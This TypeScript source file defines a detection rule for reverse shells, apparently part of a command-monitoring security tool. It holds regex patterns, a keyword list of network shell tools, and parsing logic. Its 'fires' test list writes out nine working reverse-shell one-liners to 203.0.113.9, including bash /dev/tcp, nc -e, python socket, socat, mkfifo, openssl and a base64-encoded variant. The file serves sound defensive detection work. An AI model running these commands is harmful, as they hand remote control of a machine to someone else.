import { commandRule } from "../../command-rule.js";
import { find } from "../../shell/look.js";
import type { Command, Reading } from "../../shell/reading.js";

const SHELL = /(?:^|[/\s:'"=])(?:ba|da|z|k|c|tc|a|mk)?sh\b/;

/** A shell whose input and output go over the network to somebody else. */
export const reverseShellOpened = commandRule({
  id: "reverse-shell-opened",
  alertType: "IoT_ReverseShell",
  name: "Reverse shells",
  severity: "High",
  about: "A shell whose input and output go over the network to somebody else.",
  tactics: ["Execution", "Command and Control"],
  techniques: ["T1059.004", "T1071"],
  falsePositives: ["Exercises and security tests use these very commands."],
  witness: [
    "/dev/tcp/",
    "/dev/udp/",
    "nc",
    "ncat",
    "netcat",
    "socat",
    "socket",
    "mkfifo",
    "mknod",
    "telnet",
    "openssl",
    "zsh/net/tcp",
    "awk",
    "/inet/tcp",
  ],
  patterns: [
    /\/inet\/(?:tcp|udp)\/0\/[\w.-]{1,128}\/\d{1,5}/,
    /\b(?:python[\d.]*|perl|ruby|php[\d.]*|node|lua)\b(?=.{0,4000}\b(?:socket|fsockopen|TCPSocket|net\.connect|net\.Socket|Socket::INET)\b)(?=.{0,4000}(?:dup2|pty\.spawn|subprocess|exec\b|spawn|system|child_process|proc_open|popen)).{0,200}/i,
  ],
  sees: (reading) =>
    devTcp(reading) ??
    find(
      reading,
      /^(?:nc|ncat|netcat|nc\.traditional|nc\.openbsd)$/,
      (command) =>
        /\s(?:-[a-z]*[ec]|--exec|--sh-exec)[\s=]*\S*\/?(?:ba|da|z|k|c|a)?sh\b/.test(command.text) &&
        !/--version/.test(command.text),
    ) ??
    find(
      reading,
      /^socat$/,
      ({ text }) => /\b(?:exec|system):['"]?\S*sh\b/i.test(text) && !/unix-connect/i.test(text),
    ) ??
    betweenShellAndNetwork(reading),
  did: "opened a shell to the network",
  because: "it connects a shell to a remote address",
  fires: [
    "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
    "nc -e /bin/sh 203.0.113.9 4444",
    "python3 -c import socket,subprocess,os;s=socket.socket();s.connect(('203.0.113.9',1));os.dup2(s.fileno(),0)",
    "socat tcp:203.0.113.9:1 exec:/bin/sh",
    "sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f",
    "bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
    "sh -c telnet 203.0.113.9 4444 | /bin/sh | telnet 203.0.113.9 4445",
    "bash -c echo YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuOS80NDQ0IDA+JjE= | base64 -d | bash",
    "sh -c mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.9:443 > /tmp/s",
  ],
  silent: [
    "nc -l -p 8888",
    "nc -zv 10.0.0.2 22",
    "python3 -m http.server",
    "socat - UNIX-CONNECT:/run/haproxy.sock",
    "bash -c timeout 1 bash -c 'cat < /dev/null > /dev/tcp/10.0.0.2/5432'",
    "bash -c echo > /dev/tcp/localhost/8080",
    "openssl s_client -connect example.net:443",
    "mkfifo /run/app/control",
    "telnet 10.0.0.2 25",
  ],
});

/** The shell's own files that are connections, read or written beside a shell. */
const devTcp = (reading: Reading): string | undefined => {
  const isOpened = (command: Command): boolean =>
    command.redirections.some(({ target }) => /^\/dev\/(?:tcp|udp)\/[\w.:-]+\/\d+$/.test(target));
  const opened = reading.commands.find(isOpened);
  if (!opened) return undefined;
  const isShell = reading.commands.some(
    ({ name, argv }) =>
      SHELL.test(name) && (argv.includes("-i") || isOpened({ ...opened, name })) && name !== "timeout",
  );
  const isInteractive =
    SHELL.test(opened.name) ||
    (opened.name === "exec" &&
      reading.commands.some(
        ({ text, redirections }) =>
          /<&\d|0<&/.test(text) || redirections.some(({ operator }) => operator.includes("<&")),
      ));
  return isShell &&
    (isInteractive || reading.commands.some(({ name, argv }) => SHELL.test(name) && argv.includes("-i")))
    ? reading.plain.slice(0, 200)
    : undefined;
};

/** A pipeline that goes from the network into a shell and back, over a named pipe or two programs. */
const betweenShellAndNetwork = ({ pipelines }: Reading): string | undefined => {
  const found = pipelines.find((commands) => {
    const shell = commands.findIndex(
      ({ name, argv }) => /^(?:ba|da|z|a|k)?sh$/.test(name) && (argv.length === 1 || argv.includes("-i")),
    );
    const network = ({ name, text }: Command): boolean =>
      /^(?:nc|ncat|netcat|telnet)$/.test(name) || (name === "openssl" && text.includes("s_client"));
    const isTied = shell > 0 || (shell === 0 && commands[0]!.argv.includes("-i"));
    return isTied && commands.some(network);
  });
  return found?.map(({ text }) => text).join(" | ");
};
